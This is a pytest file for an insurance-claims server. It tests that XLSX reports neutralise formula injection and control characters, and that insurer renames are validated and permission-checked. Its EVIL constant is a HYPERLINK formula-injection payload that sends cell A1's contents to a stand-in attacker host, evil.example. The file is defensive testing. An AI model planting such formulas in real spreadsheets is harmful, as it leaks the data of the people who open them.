"""Text in the XLSX reports stays text, and insurers can be renamed (with names checked).

Before: an insurer named ``=HYPERLINK(...)`` became a live formula in the annual report, a control
character in a name made the XLSX download answer 500, and no insurer could be renamed.
"""
from __future__ import annotations

import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import zipfile

from sync_server.core.models import Insurer
from sync_server.reports import render_xlsx
from sync_server.testing import ROOT, settings_env

from .test_rotation_api import add_claims, world  # noqa: F401  (fixture)

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_formula_like_text_is_written_as_text():
    from openpyxl import Workbook, load_workbook

    wb = Workbook()
    ws = wb.active
    row = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "普通", 42, -5]
    render_xlsx._append_safe(ws, row)
    buf = io.BytesIO()
    wb.save(buf)
    xml = _sheet_xml(buf.getvalue())
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    cells = list(back[1])
    # (XML reads a lone CR back as a line feed)
    assert [c.value for c in cells[:7]] == [*row[:5], "\n=1", row[6]]
    assert all(c.data_type == "s" for c in cells[:7])
    assert all(c.quotePrefix for c in cells[:6]) and not cells[6].quotePrefix
    assert [c.value for c in cells[7:]] == [42, -5] and cells[8].data_type == "n"


def test_control_characters_are_stripped_not_a_crash():
    from openpyxl import Workbook

    wb = Workbook()
    render_xlsx._append_safe(wb.active, ["a\x00b\x01c\x0bd\x1fe", "tab\tand\nnewline"])
    buf = io.BytesIO()
    wb.save(buf)
    xml = _sheet_xml(buf.getvalue())
    assert "abcde" in xml and "tab\tand\nnewline" in xml


def test_annual_report_with_hostile_insurer_names_is_safe(world):
    h = world.p.coordinator.headers
    r = world.client.post("/api/v1/insurers/co1/rename", headers=h, json={"name": EVIL})
    assert r.status_code == 200, r.text
    assert r.json()["name"] == EVIL
    # a name stored before names were checked: a control character
    with world.harness.db.write() as s:
        s.get(Insurer, "co2").name = "坏\x07名"
    add_claims(world.harness, 1)
    year = dt.datetime.now(dt.timezone(dt.timedelta(hours=8))).year
    r = world.client.get("/api/v1/reports/annual", headers=h, params={"year": year, "format": "xlsx"})
    assert r.status_code == 200, r.text
    xml = _sheet_xml(r.content)
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK" in xml and "坏名" in xml


def test_coordinator_renames_an_insurer_over_http(world):
    c, coord = world.client, world.p.coordinator.headers
    r = c.post("/api/v1/insurers/co1/rename", headers=coord, json={"name": "  新名称保险  "})
    assert r.status_code == 200 and r.json()["name"] == "新名称保险"
    assert {i["code"]: i["name"] for i in c.get("/api/v1/insurers", headers=coord).json()["insurers"]}["co1"] == "新名称保险"
    for bad in ("", "   ", "a\nb", "x\u202eevil", "名" * 101):
        r = c.post("/api/v1/insurers/co1/rename", headers=coord, json={"name": bad})
        assert r.status_code == 422 and r.json()["error"] in ("invalid_name", "invalid_text"), (bad, r.text)
    r = c.post("/api/v1/insurers/nobody/rename", headers=coord, json={"name": "x"})
    assert r.status_code == 404 and r.json()["error"] == "not_found"
    for who in (world.p.adjuster, world.p.s1, world.p.liaison):
        r = c.post("/api/v1/insurers/co1/rename", headers=who.headers, json={"name": "x"})
        assert r.status_code == 403 and r.json()["error"] == "forbidden"


def test_admin_insurer_rename(settings, harness):
    harness.add_insurer("cpic", "太平洋")
    env = dict(os.environ, **settings_env(settings), PYTHONPATH=str(ROOT))

    def run(*argv):
        return subprocess.run([sys.executable, "-m", "sync_server", "admin", "insurer", *argv], env=env,
                              capture_output=True, text=True, timeout=120, cwd=str(ROOT))

    ok = run("rename", "cpic", "--name", "太平洋财险大足支公司", "--json")
    assert ok.returncode == 0, ok.stderr
    assert {i["code"]: i["name"] for i in json.loads(ok.stdout)["insurers"]}["cpic"] == "太平洋财险大足支公司"
    bad = run("rename", "cpic", "--name", "a\x1bb")
    assert bad.returncode == 2 and re.search("control", bad.stderr)
    assert run("rename", "nobody", "--name", "x").returncode == 2
    assert run("add", "evil", "--name", "x\u200by").returncode == 2
